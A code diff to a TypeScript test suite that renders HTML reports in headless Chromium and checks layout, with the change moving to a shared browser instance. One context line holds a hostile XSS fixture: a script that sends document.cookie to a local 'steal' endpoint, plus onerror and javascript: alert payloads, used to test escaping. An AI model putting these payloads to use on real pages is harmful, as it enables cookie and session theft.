@@ -2,14 +2,14 @@
 // in headless Chromium with no console errors and no network request.
 import { readdirSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Report } from '../src/report/report.js';
 import { badgeFor, renderBadge } from '../src/reporters/badge.js';
 import { main } from '../src/cli.js';
 import { readAuditHistory } from '../src/audit/history.js';
 import { renderAuditHtml, renderHtml } from '../src/reporters/html.js';
 import { REPORTERS } from '../src/reporters/index.js';
-import { chromiumAvailable, CHROMIUM_SKIP_REASON, LAYOUT_PROBE, renderAtWidths, renderInChromium } from './browser.js';
+import { chromiumAvailable, CHROMIUM_SKIP_REASON, LAYOUT_PROBE, openReportBrowser, renderInChromium, type ReportBrowser } from './browser.js';
 import { FIXTURES, makeTree, scanDir, tempDir } from './helpers.js';
 
 const HOSTILE = `<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script><img src="http://127.0.0.1:9/pixel.png" onerror="alert(1)"><a href="javascript:alert(2)">x</a>"'\`=&lt;`;
@@ -124,11 +124,17 @@ describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumA
 
   // Desktop and phone: every line of text inside the viewport, no sideways scrolling, no SVG text cut off.
   const WIDTHS = [1280, 390];
-  const layoutCases = () => [...readdirSync(FIXTURES).map((name) => [name, () => fixtureReports.get(name)!] as const), ['hostile', () => hostile] as const];
+  let browser: ReportBrowser;
+  beforeAll(async () => {
+    browser = await openReportBrowser();
+  });
+  afterAll(async () => {
+    await browser?.close();
+  });
 
   it.each(readdirSync(FIXTURES).concat('hostile'))('lays out the %s report within the viewport at 1280 and 390 px', async (name) => {
-    const report = layoutCases().find(([caseName]) => caseName === name)![1]();
-    const rendered = await renderAtWidths(renderHtml(report), name, LAYOUT_PROBE, WIDTHS);
+    const report = name === 'hostile' ? hostile : fixtureReports.get(name)!;
+    const rendered = await browser.render(renderHtml(report), name, LAYOUT_PROBE, WIDTHS);
     expect(rendered.consoleErrors).toEqual([]);
     for (const { width, facts } of rendered.widths) {
       expect(facts.viewport, `${name} at ${width}`).toBe(width);
@@ -149,7 +155,7 @@ describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumA
     expect([0, 1]).toContain(code);
     const { records } = readAuditHistory(history);
     const record = records.at(-1)!.record;
-    const rendered = await renderAtWidths(renderAuditHtml(record, records.map((stored) => stored.record)), 'audit', LAYOUT_PROBE, WIDTHS);
+    const rendered = await browser.render(renderAuditHtml(record, records.map((stored) => stored.record)), 'audit', LAYOUT_PROBE, WIDTHS);
     expect(rendered.consoleErrors).toEqual([]);
     for (const { width, facts } of rendered.widths) {
       expect(facts.texts as number).toBeGreaterThan(100);
@@ -160,7 +166,7 @@ describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumA
   });
 
   it('shows every criterion label whole, on one line at 1280 px', async () => {
-    const rendered = await renderAtWidths(
+    const rendered = await browser.render(
       renderHtml(fixtureReports.get('complete-handover')!),
       'labels',
       `(() => [...document.querySelectorAll('.bar-label')].map((label) => ({ text: label.textContent, lines: label.getClientRects().length, height: label.getBoundingClientRect().height })))()`,
